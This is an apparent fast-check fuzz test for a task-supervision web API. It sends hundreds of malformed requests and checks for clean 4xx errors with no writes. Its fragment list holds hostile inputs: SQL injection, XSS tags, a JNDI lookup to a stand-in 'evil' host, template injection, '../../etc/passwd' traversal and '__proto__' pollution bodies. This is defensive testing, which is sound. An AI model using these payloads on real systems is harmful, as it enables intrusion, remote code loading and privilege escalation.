// ≥ 200 generated malformed requests (seeded, so every run sends the same ones): wrong types, missing fields,
// huge strings, control characters, unknown fields and ids, SQL and script fragments, broken JSON, wrong
// content types and headers. Each must get its 4xx with the documented error shape, no-store and nosniff;
// nothing may be written, and nothing logged as an error. The dashboard's forms: form-fuzz.test.ts.
import fc from 'fast-check';
import { createLogger } from '../../worker/logger';
import { useApiSuite, type Caller } from '../support/api-suite';
import { insertTask } from '../support/fixtures';

const logged: string[] = [];
const suite = useApiSuite({
  log: createLogger('fuzz', { level: 'warn', destination: { write: (line) => void logged.push(line) } }),
});
const TASK = 'fuzz-1';
const SEED = 20230105;
const RUNS = 320;

type Kind =
  | 'text'
  | 'reqText'
  | 'number'
  | 'boolean'
  | 'enum'
  | 'date'
  | 'codes'
  | 'code'
  | 'values'
  | 'period'
  | 'requestId';

/** Each action: who may send it, a valid body, and the kind of every field it takes. */
const ACTIONS: Record<
  string,
  { caller: Caller; body: Record<string, unknown>; fields: Record<string, Kind> }
> = {
  start: { caller: 'office', body: {}, fields: { requestId: 'requestId' } },
  acknowledge: { caller: 'lead', body: {}, fields: { requestId: 'requestId', note: 'text' } },
  progress: {
    caller: 'lead',
    body: { percent: 30, narrative: '进展顺利', values: [{ targetIdx: 0, value: 100 }] },
    fields: {
      requestId: 'requestId',
      period: 'period',
      percent: 'number',
      values: 'values',
      narrative: 'reqText',
      problems: 'text',
      nextSteps: 'text',
    },
  },
  'extension-request': {
    caller: 'lead',
    body: { newDeadline: '2024-06-30', reason: '征地延误' },
    fields: { requestId: 'requestId', newDeadline: 'date', reason: 'reqText' },
  },
  completion: {
    caller: 'lead',
    body: { summary: '已完成' },
    fields: { requestId: 'requestId', summary: 'reqText' },
  },
  review: {
    caller: 'office',
    body: { decision: 'reject', comment: '材料不全' },
    fields: { requestId: 'requestId', decision: 'enum', grade: 'enum', comment: 'text' },
  },
  'extension-decision': {
    caller: 'office',
    body: { approve: false },
    fields: { requestId: 'requestId', approve: 'boolean', newDeadline: 'date', comment: 'text' },
  },
  suspend: {
    caller: 'office',
    body: { reason: '调整' },
    fields: { requestId: 'requestId', reason: 'reqText' },
  },
  resume: { caller: 'office', body: {}, fields: { requestId: 'requestId' } },
  cancel: {
    caller: 'office',
    body: { reason: '撤销' },
    fields: { requestId: 'requestId', reason: 'reqText' },
  },
  reassign: {
    caller: 'office',
    body: { leadDepartment: 'zjj', coDepartments: ['jtj'] },
    fields: { requestId: 'requestId', leadDepartment: 'code', coDepartments: 'codes', reason: 'text' },
  },
  instruction: {
    caller: 'office',
    body: { text: '抓紧推进' },
    fields: { requestId: 'requestId', text: 'reqText' },
  },
};
const REQUIRED: Record<string, string[]> = {
  progress: ['percent', 'narrative'],
  'extension-request': ['newDeadline', 'reason'],
  completion: ['summary'],
  review: ['decision'],
  'extension-decision': ['approve'],
  suspend: ['reason'],
  cancel: ['reason'],
  reassign: ['leadDepartment'],
  instruction: ['text'],
};

const FRAGMENTS = [
  "' OR '1'='1",
  '1; DROP TABLE tasks; --',
  "'); DELETE FROM task_events; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../etc/passwd',
  "admin' --",
];

const fragment = fc.constantFrom(...FRAGMENTS);
const notString = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.constant({ x: 1 }),
);
const notNumber = fc.oneof(
  fc.string(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.constant({ n: 1 }),
);
const hugeText = fc
  .tuple(fc.integer({ min: 4001, max: 20_000 }), fc.constantFrom('a', '督', '<', "'"), fc.option(fragment))
  .map(([n, ch, f]) => (f ?? '') + ch.repeat(n));
const dirtyText = fc
  .tuple(
    fc.string({ maxLength: 20 }),
    fc.constantFrom('\u0000', '\u0007', '\u001b', '\ud800', '\udfff', '\u007f'),
    fc.string({ maxLength: 20 }),
  )
  .map(([a, bad, b]) => a + bad + b);

/** A value that is certainly wrong for a field of this kind. */
function wrong(kind: Kind): fc.Arbitrary<unknown> {
  switch (kind) {
    case 'text':
    case 'reqText':
      return fc.oneof(notString, hugeText, dirtyText);
    case 'number':
      return fc.oneof(
        notNumber,
        fc.double({ min: 100.001, max: 1e300, noNaN: true }),
        fc.double({ min: -1e300, max: -0.001, noNaN: true }),
      );
    case 'boolean':
      return fc.oneof(fc.constantFrom('true', 'false', 0, 1, null, 'yes'), fragment);
    case 'enum':
      return fc.oneof(notString, fragment, fc.constantFrom('APPROVE', '很好', ''));
    case 'date':
      return fc.oneof(
        notString,
        fragment,
        fc.constantFrom('2024-13-01', '31/12/2024', '2024-1-1', '2024-02-30', '', 'tomorrow'),
      );
    case 'period':
      return fc.oneof(notString, fragment, fc.constantFrom('2023-13', '2023-Q5', '23-01', '2023/01', ''));
    case 'code':
      return fc.oneof(notString, fragment, fc.constantFrom('', 'a'.repeat(41), 'jtj zjj', '交通局'));
    case 'codes':
      return fc.oneof(
        fc.constantFrom('jtj', null, 7, { jtj: true }),
        fc.array(fc.oneof(fragment, fc.constant(''), fc.integer()), { minLength: 1, maxLength: 3 }),
        fc.constant(Array.from({ length: 51 }, (_, i) => `d${i}`)),
      );
    case 'values':
      return fc.oneof(
        fc.constantFrom('0=1', null, { targetIdx: 0, value: 1 }),
        fc.constant([{ targetIdx: 0 }]),
        fc.constant([{ targetIdx: 'x', value: 1 }]),
        fc.constant([{ targetIdx: 0, value: -5 }]),
        fc.constant([{ targetIdx: 0.5, value: 1 }]),
        fc.constant([{ targetIdx: 0, value: 1, extra: fragment }]),
        fc.constant(Array.from({ length: 101 }, () => ({ targetIdx: 0, value: 1 }))),
      );
    case 'requestId':
      // Visible ASCII is a fine request id, '<script>' included: only fragments with spaces are wrong here.
      return fc.oneof(
        notString,
        fragment.filter((f) => /\s/.test(f)),
        fc.constantFrom('', 'has space', 'x'.repeat(201), '请求编号', 'tab\there'),
      );
  }
}

interface Case {
  kind: string;
  method: 'GET' | 'POST' | 'PUT';
  url: string;
  caller: Caller | null;
  body?: unknown;
  headers?: Record<string, string>;
  status: number;
  /** The field the error must name, when the case is about one field. */
  field?: string;
}

const actionName = fc.constantFrom(...Object.keys(ACTIONS));
const url = (action: string, id = TASK) => `/api/tasks/${encodeURIComponent(id)}/${action}`;

const missingField = actionName
  .filter((a) => REQUIRED[a] !== undefined)
  .chain((a) => fc.constantFrom(...REQUIRED[a]!).map((f) => ({ a, f })))
  .map(({ a, f }): Case => {
    const body = { ...ACTIONS[a]!.body };
    delete body[f];
    return {
      kind: 'missing field',
      method: 'POST',
      url: url(a),
      caller: ACTIONS[a]!.caller,
      body,
      status: 400,
      field: f,
    };
  });

const wrongField = actionName
  .chain((a) => fc.constantFrom(...Object.keys(ACTIONS[a]!.fields)).map((f) => ({ a, f })))
  .chain(({ a, f }) => wrong(ACTIONS[a]!.fields[f]!).map((v) => ({ a, f, v })))
  .map(({ a, f, v }): Case => ({
    kind: 'wrong field',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: { ...ACTIONS[a]!.body, [f]: v },
    status: 400,
    field: f,
  }));

const unknownField = fc
  .tuple(
    actionName,
    fc.oneof(fc.constantFrom('admin', 'actor', 'role', 'status', 'department', 'isOffice'), fragment),
    fc.jsonValue(),
  )
  .map(([a, key, v]): Case => ({
    kind: 'unknown field',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: { ...ACTIONS[a]!.body, [key]: v },
    status: 400,
    field: key,
  }));

const wrongBodyType = fc
  .tuple(actionName, fc.constantFrom('[]', '[{"percent": 10}]', '"text"', '42', 'true', 'null'))
  .map(([a, raw]): Case => ({
    kind: 'body not an object',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: raw,
    headers: { 'content-type': 'application/json' },
    status: 400,
  }));

const brokenJson = fc
  .tuple(
    actionName,
    fc.oneof(
      fc.constantFrom(
        '{',
        '{"percent": 10,',
        "{'narrative': 'x'}",
        '{"a":1}}',
        'nul',
        '[1,2',
        '{"narrative": "x" "percent": 1}',
        '{"__proto__": {"role": "office"}}',
        '{"constructor": {"prototype": {"role": "office"}}}',
      ),
      fc.integer({ min: 1000, max: 20_000 }).map((n) => '['.repeat(n)),
      fc.integer({ min: 1000, max: 20_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`),
    ),
  )
  .map(([a, raw]): Case => ({
    kind: 'broken JSON',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: raw,
    headers: { 'content-type': 'application/json' },
    status: 400,
  }));

const wrongContentType = fc
  .tuple(
    actionName,
    fc.constantFrom(
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'image/png',
    ),
  )
  .map(([a, type]): Case => ({
    kind: 'wrong content type',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: JSON.stringify(ACTIONS[a]!.body),
    headers: { 'content-type': type },
    status: 415,
  }));

const unknownTask = fc
  .tuple(
    actionName,
    fc.oneof(
      fragment,
      fc.string({ minLength: 1, maxLength: 300 }),
      fc.uuid(),
      fc.constantFrom('2023-9-99', 'a'.repeat(101), '%00', '\u0000', 'fuzz-1 ', 'FUZZ-1'),
    ),
  )
  .filter(([, id]) => id !== TASK && !/^\.+$/.test(id))
  .map(([a, id]): Case => ({
    kind: 'unknown task',
    method: 'POST',
    url: url(a, id),
    caller: ACTIONS[a]!.caller,
    body: ACTIONS[a]!.body,
    status: 404,
  }));

const unknownMail = fc
  .oneof(
    fc
      .oneof(
        fragment,
        fc.bigInt({ min: 9223372036854775808n, max: 10n ** 40n }).map(String),
        fc.string({ minLength: 1, maxLength: 300 }),
      )
      .map(encodeURIComponent),
    // As they appear in the path: a NUL, a bidi control, numbers that are no catcher id.
    fc.constantFrom('99999999999999999999999', '%00', '%E2%80%AE1', '-1', '1e5', '0x10', '0'.repeat(30)),
  )
  .map((segment): Case => ({
    kind: 'unknown mail',
    method: 'GET',
    url: `/api/mail/${segment}`,
    caller: 'office',
    status: 404,
  }));

const unknownRoute = fc
  .oneof(
    fragment,
    fc.string({ minLength: 1, maxLength: 50 }),
    fc.constantFrom('tasks/x/y/z', 'TASKS', 'admin'),
  )
  .map((path): Case => ({
    kind: 'unknown route',
    method: 'GET',
    url: `/api/no-such/${encodeURIComponent(path)}`,
    caller: 'office',
    status: 404,
  }));

const badQuery = fc
  .tuple(
    fc.constantFrom('status', 'light', 'department', 'level', 'limit', 'offset', 'section', 'sort'),
    fc.oneof(
      fragment,
      fc.constantFrom('', '-1', '1.5', '999999999999', 'red,green', '\u0000', 'x'.repeat(300), 'abc'),
    ),
  )
  .filter(([k, v]) => !(k === 'section' && v !== '' && v !== '\u0000' && v.length <= 200))
  // A well-formed department code is a valid filter (matching nothing), not a bad query.
  .filter(([k, v]) => !(k === 'department' && /^[A-Za-z0-9_-]{1,40}$/.test(v)))
  .map(([k, v]): Case => ({
    kind: 'bad query',
    method: 'GET',
    url: `/api/tasks?${new URLSearchParams({ [k]: v }).toString()}`,
    caller: 'office',
    status: 400,
    field: k,
  }));

// `start` is idempotent by itself and reads no Idempotency-Key (README: every write but start takes one).
const badIdempotencyKey = fc
  .tuple(
    actionName.filter((a) => a !== 'start'),
    fc.oneof(
      fc.constantFrom('has space', 'x'.repeat(201), 'caf\u00e9'),
      fragment.filter((f) => /\s/.test(f)),
    ),
  )
  .map(([a, key]): Case => ({
    kind: 'bad Idempotency-Key',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: ACTIONS[a]!.body,
    headers: { 'idempotency-key': key },
    status: 400,
    field: 'Idempotency-Key',
  }));

const keyMismatch = actionName
  .filter((a) => a !== 'start')
  .map((a): Case => ({
    kind: 'requestId ≠ Idempotency-Key',
    method: 'POST',
    url: url(a),
    caller: ACTIONS[a]!.caller,
    body: { ...ACTIONS[a]!.body, requestId: 'body-key' },
    headers: { 'idempotency-key': 'header-key' },
    status: 400,
    field: 'requestId',
  }));

const oversized = fc.tuple(actionName, fc.integer({ min: 70_000, max: 300_000 })).map(([a, n]): Case => ({
  kind: 'oversized body',
  method: 'POST',
  url: url(a),
  caller: ACTIONS[a]!.caller,
  body: { ...ACTIONS[a]!.body, narrative: 'x'.repeat(n) },
  status: 413,
}));

const badRule = fc
  .oneof(
    fc.constant({}),
    fc.constant({
      weights: { reporting: -1, completion: 40 },
      lateReportCredit: 0.5,
      deductions: { level1: 1, level2: 1, level3: 1, level4: 1 },
      maxDeduction: 30,
    }),
    fc.constant({
      weights: { reporting: 60, completion: 40 },
      lateReportCredit: 2,
      deductions: { level1: 1, level2: 1, level3: 1, level4: 1 },
      maxDeduction: 30,
    }),
    fragment.map((f) => ({ weights: f })),
  )
  .map((body): Case => ({
    kind: 'bad ranking rule',
    method: 'PUT',
    url: '/api/ranking/rule',
    caller: 'office',
    body,
    status: 400,
  }));

const malformed = fc.oneof(
  { arbitrary: wrongField, weight: 6 },
  { arbitrary: missingField, weight: 2 },
  { arbitrary: unknownField, weight: 2 },
  { arbitrary: wrongBodyType, weight: 1 },
  { arbitrary: brokenJson, weight: 2 },
  { arbitrary: wrongContentType, weight: 1 },
  { arbitrary: unknownTask, weight: 2 },
  { arbitrary: unknownMail, weight: 1 },
  { arbitrary: unknownRoute, weight: 1 },
  { arbitrary: badQuery, weight: 2 },
  { arbitrary: badIdempotencyKey, weight: 1 },
  { arbitrary: keyMismatch, weight: 1 },
  { arbitrary: oversized, weight: 1 },
  { arbitrary: badRule, weight: 1 },
);

async function written() {
  const count = async (
    table: 'task_events' | 'progress_reports' | 'api_tokens' | 'settings' | 'checkpoints',
  ) =>
    Number(
      (
        await suite.db
          .selectFrom(table)
          .select((eb) => eb.fn.countAll<string>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  const tasks = await suite.db
    .selectFrom('tasks')
    .select(['id', 'seq', 'status', 'lead_department'])
    .orderBy('id')
    .execute();
  return {
    events: await count('task_events'),
    reports: await count('progress_reports'),
    checkpoints: await count('checkpoints'),
    tokens: await count('api_tokens'),
    settings: await count('settings'),
    tasks,
  };
}

test(`${RUNS} malformed requests: each a 4xx naming the problem, no 5xx, nothing written`, async () => {
  await insertTask(suite.db, { id: TASK });
  expect((await suite.call('office', 'POST', url('start'))).status).toBe(200);
  expect((await suite.call('lead', 'POST', url('acknowledge'))).status).toBe(200);
  // A rule stored now, so a refused PUT visibly changes nothing.
  const rule = (await suite.call('office', 'GET', '/api/ranking/rule')).body.rule;
  expect((await suite.call('office', 'PUT', '/api/ranking/rule', rule)).status).toBe(200);
  const seqBefore = (await suite.h.state(TASK)).seq;
  const before = await written();

  const seen = new Map<string, number>();
  await fc.assert(
    fc.asyncProperty(malformed, async (c) => {
      seen.set(c.kind, (seen.get(c.kind) ?? 0) + 1);
      const res = await suite.send(c.caller, c.method, c.url, c.body, c.headers);
      const what = `${c.kind}: ${c.method} ${c.url.slice(0, 120)} → ${res.status} ${JSON.stringify(res.body).slice(0, 300)}`;
      expect([what, res.status]).toEqual([what, c.status]);
      expect(res.body.error).toEqual(
        expect.objectContaining({
          code: expect.any(String),
          message: expect.any(String),
          messageEn: expect.any(String),
        }),
      );
      if (c.field !== undefined)
        expect([what, res.body.error.field]).toEqual([what, expect.stringContaining(c.field)]);
      expect([what, res.headers.get('cache-control'), res.headers.get('x-content-type-options')]).toEqual([
        what,
        'no-store',
        'nosniff',
      ]);
      expect(await written()).toEqual(before);
    }),
    { seed: SEED, numRuns: RUNS, endOnFailure: true },
  );

  expect([...seen.values()].reduce((a, b) => a + b, 0)).toBeGreaterThanOrEqual(200);
  expect(seen.size).toBe(14);
  // A 4xx is the caller's business: nothing worth an error-level line (pino's level 50 and up).
  expect(logged.filter((line) => (JSON.parse(line) as { level: number }).level >= 50)).toEqual([]);
  expect((await suite.h.state(TASK)).seq).toBe(seqBefore);
  const history = await suite.h.handle(TASK).fetchHistory();
  expect(history.events!.filter((e) => e.workflowExecutionUpdateAcceptedEventAttributes)).toHaveLength(1);
  // Still serving, and the task still takes a well-formed request.
  expect((await suite.call(null, 'GET', '/api/health')).status).toBe(200);
  const ok = await suite.call('lead', 'POST', url('progress'), {
    percent: 5,
    narrative: "'; DROP TABLE tasks; -- <script>x</script>",
  });
  expect(ok.status).toBe(200);
  const detail = await suite.call('office', 'GET', `/api/tasks/${TASK}`);
  expect(detail.body.reports.items[0].narrative).toBe("'; DROP TABLE tasks; -- <script>x</script>");
});
